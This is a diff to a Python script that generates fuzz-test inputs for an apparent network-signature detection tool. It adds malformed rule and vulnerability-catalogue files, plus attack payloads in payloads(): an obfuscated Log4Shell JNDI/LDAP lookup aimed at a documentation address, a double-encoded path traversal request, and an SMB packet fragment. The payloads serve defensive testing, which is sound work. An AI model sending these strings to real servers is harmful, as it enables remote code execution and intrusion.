@@ -151,6 +151,35 @@ def sensors():
     yield "empty", b""
 
 
+def payloads():
+    yield "log4shell", b"GET /?a=${${lower:j}ndi:${::-l}dap://192.0.2.1/a} HTTP/1.1\r\n"
+    yield "twice-encoded", b"GET /cgi-bin/.%%32%65/%252e%252e/%%%4%zz/${${${::-j HTTP/1.1\r\n"
+    yield "trans2", bytes.fromhex("0000004fff534d4232") + bytes(54) + bytes.fromhex("01000e000d00")
+    yield "text", "\u65e5\u202e\ufeff\u05d0\x1b[2J\\".encode() + b"\xc0\xaf\xed\xa0\x80\xff"
+    yield "empty", b""
+
+
+def rules():
+    one = (b"signatures:\n- id: one\n  title: {en: One, ja: One}\n  protocol: udp\n  ports: [53, 80-90]\n"
+           b"  ordered: true\n  patterns:\n  - {text: ab, nocase: true, at: 3}\n  - {anyOf: [cd, {hex: \"00 ff\"}]}\n"
+           b"  cve: [CVE-2021-44228]\n  technique: T1190\n"
+           b"  tests: {match: [a], nearMiss: [{hex: \"00\", port: 9, protocol: tcp}], evasion: [c]}\n")
+    yield "one", one
+    yield "wrong", one.replace(b"udp", b"sctp").replace(b"80-90", b"90-80").replace(b"00 ff", b"0g")
+    yield "alias", b"signatures: &a\n- *a\n- {id: *a, patterns: *a}\n"
+    yield "deep", b"[" * 20000
+    yield "cut", one[:-9]
+    yield "empty", b""
+
+
+def catalogues():
+    header = b"cveID,vendorProject,product,vulnerabilityName,dateAdded,dueDate,knownRansomwareCampaignUse\r\n"
+    row = b'CVE-2021-44228,Apache,"Log4j2, ""2""\r\n",Name,2021-12-10,2021-12-24,Known\r\n'
+    yield "one", b"\xef\xbb\xbf" + header + row
+    yield "wrong", header + row + row + b"CVE-1,,,,x,,\n,\n\r\"a\"b,\"never"
+    yield "empty", b""
+
+
 def main():
     shutil.rmtree(ROOT, ignore_errors=True)
     for link, name, frame in frames():
@@ -159,6 +188,13 @@ def main():
         save("CaptureFuzzTestInputs/anyBytesAreRead", name, data)
     for name, data in sensors():
         save("SensorsFuzzTestInputs/anySensorsFileIsReadOrExplained", name, data)
+    for name, data in payloads():
+        save("SignatureFuzzTestInputs/aPayloadIsJudgedByItsOwnBytes", name, data)
+        save("SignatureFuzzTestInputs/aPayloadIsShownAndNotObeyed", name, data)
+    for name, data in rules():
+        save("SignatureFuzzTestInputs/anyRuleFileIsReadOrExplained", name, data)
+    for name, data in catalogues():
+        save("SignatureFuzzTestInputs/anyCatalogueIsReadOrExplained", name, data)
     plain = dict(captures())["nano-little"]
     compressed = {"gzip": gzip.compress(plain, mtime=0), "xz": lzma.compress(plain), "bzip2": bz2.compress(plain)}
     for tool in ("zstd", "lz4"):
